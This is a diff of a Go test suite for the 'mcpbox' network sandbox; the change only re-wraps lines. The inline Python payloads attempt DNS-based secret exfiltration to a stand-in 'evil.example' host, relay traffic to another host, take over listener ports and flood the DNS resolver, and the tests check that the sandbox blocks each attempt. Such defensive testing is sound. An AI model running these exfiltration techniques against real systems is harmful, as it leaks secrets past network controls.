@@ -210,7 +210,9 @@ func TestCannotTakeTheListenersPlace(t *testing.T) {
 	w := newWorld(t)
 	r := w.mcpbox("--allow-net", api, "--allow-net", api+":8443", "--", "python3", "-c", `
 import socket
-for host, port, kind in [("", 443, socket.SOCK_STREAM), ("", 8443, socket.SOCK_STREAM), ("198.18.0.2", 8443, socket.SOCK_STREAM), ("127.0.0.53", 53, socket.SOCK_DGRAM), ("127.0.0.53", 53, socket.SOCK_STREAM)]:
+for host, port, kind in [("", 443, socket.SOCK_STREAM), ("", 8443, socket.SOCK_STREAM), `+
+		`("198.18.0.2", 8443, socket.SOCK_STREAM), ("127.0.0.53", 53, socket.SOCK_DGRAM), `+
+		`("127.0.0.53", 53, socket.SOCK_STREAM)]:
     for option in [None, socket.SO_REUSEADDR, socket.SO_REUSEPORT]:
         s = socket.socket(socket.AF_INET, kind)
         if option: s.setsockopt(socket.SOL_SOCKET, option, 1)
@@ -235,11 +237,13 @@ import socket, threading
 def relay(l):
     c, _ = l.accept()
     try:
-        o = socket.create_connection(("`+testnet.Other+`", 80), 20); o.sendall(c.recv(999)); c.sendall(o.recv(999))
+        o = socket.create_connection(("`+testnet.Other+`", 80), 20); o.sendall(c.recv(999)); `+
+		`c.sendall(o.recv(999))
     except OSError as e: c.sendall(str(e).encode())
     c.close()
 l = socket.create_server(("127.0.0.1", 8080)); threading.Thread(target=relay, args=[l]).start()
-s = socket.create_connection(("127.0.0.1", 8080), 20); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); print(s.recv(999))
+s = socket.create_connection(("127.0.0.1", 8080), 20); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); `+
+		`print(s.recv(999))
 `)
 	if strings.Contains(r.stdout, "evil") || r.event("egress:address") == nil {
 		t.Errorf("%s%s", r.stdout, r.stderr)
@@ -251,11 +255,13 @@ func TestALookUpIsNoChannel(t *testing.T) {
 	before := len(w.Names.Asked())
 	r := w.mcpbox("--allow-net", "*.example.test", "--", "python3", "-c", `
 import socket
-for name in ["the-secret-is-1234.example.test", "the-secret-is-1234.evil.example", "TXT.the-secret.evil.example"]:
+for name in ["the-secret-is-1234.example.test", "the-secret-is-1234.evil.example", `+
+		`"TXT.the-secret.evil.example"]:
     try: print(socket.getaddrinfo(name, 80)[0][4][0])
     except OSError as e: print(e)
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("`+testnet.Public+`", 53))
-try: s.send(b"\0\7\1\0\0\1\0\0\0\0\0\0\6secret\4evil\7example\0\0\1\0\1"); s.settimeout(1); print(s.recv(99))
+try: s.send(b"\0\7\1\0\0\1\0\0\0\0\0\0\6secret\4evil\7example\0\0\1\0\1"); s.settimeout(1); `+
+		`print(s.recv(99))
 except OSError as e: print(e)
 `)
 	if asked := w.Names.Asked()[before:]; len(asked) > 0 {
@@ -267,10 +273,12 @@ func TestAFloodOfLookUpsIsFolded(t *testing.T) {
 	w := newWorld(t)
 	r := w.mcpbox("--quiet", "--allow-net", api, "--", "python3", "-c", `
 import socket, struct
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.53", 53)); s.settimeout(20)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.53", 53)); `+
+		`s.settimeout(20)
 for i in range(100_000):
     n = b"n%d" % i
-    s.send(struct.pack(">6H", i & 0xffff, 0x100, 1, 0, 0, 0) + bytes([len(n)]) + n + b"\4evil\7example\0\0\1\0\1")
+    s.send(struct.pack(">6H", i & 0xffff, 0x100, 1, 0, 0, 0) + bytes([len(n)]) + n + `+
+		`b"\4evil\7example\0\0\1\0\1")
     s.recv(512)
 print("done")
 `)
@@ -302,7 +310,8 @@ func TestStrictGetsWhatTheNetworkTakes(t *testing.T) {
 		get...)...); strings.Contains(r.stdout, "this is api") {
 		t.Error("strict has a network by itself")
 	}
-	r := w.mcpbox(append([]string{"--best-effort", "--policy", "strict", "--allow-net", api, "--"}, get...)...)
+	r := w.mcpbox(append([]string{"--best-effort", "--policy", "strict", "--allow-net", api,
+		"--"}, get...)...)
 	if !strings.Contains(r.stdout, "this is api") {
 		t.Error(r.stderr)
 	}
